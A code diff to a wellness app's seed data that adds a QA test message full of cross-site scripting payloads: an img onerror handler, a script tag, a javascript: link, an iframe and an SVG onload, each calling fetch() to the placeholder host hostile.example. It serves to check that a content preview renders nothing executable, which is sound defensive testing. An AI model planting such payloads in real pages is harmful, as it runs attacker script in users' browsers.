@@ -3,6 +3,16 @@ import type { EventAction, Message, OwnerTypeEvent } from "@wellkit/core"
 const welcomeBody = (company: string) =>
   `<p>Welcome to the <strong>${company}</strong> wellness programme!</p><p>Join a challenge this week to earn your first reward.</p>`
 
+/** A body a careless renderer would run: a handler, a script, a javascript: link, a frame and an SVG handler. */
+export const HOSTILE_BODY = [
+  "<p>Drink a glass of water with every meal this week.</p>",
+  `<img src="x" onerror="alert('onerror');fetch('https://hostile.example/onerror')">`,
+  `<script>alert('script');fetch('https://hostile.example/script')</script>`,
+  `<a href="javascript:fetch('https://hostile.example/link')">Claim your prize</a>`,
+  `<iframe src="https://hostile.example/frame"></iframe>`,
+  `<svg onload="fetch('https://hostile.example/svg')"><circle r="4"></circle></svg>`,
+].join("")
+
 const at = (day: number) => new Date(Date.UTC(2026, 9, day, 9, 30)).toISOString()
 
 const message = (
@@ -104,6 +114,8 @@ export const seedMessages = (): Array<Message> => [
     null,
     10,
   ),
+  // The QA organisation's trap for the content preview: everything in it that could run must not.
+  message(10, 1003, "QA_HOSTILE_HTML", "Hydration week", HOSTILE_BODY, "inApp", null, 11),
 ]
 
 export const seedOwnerTypeEvents = (): Array<OwnerTypeEvent> =>
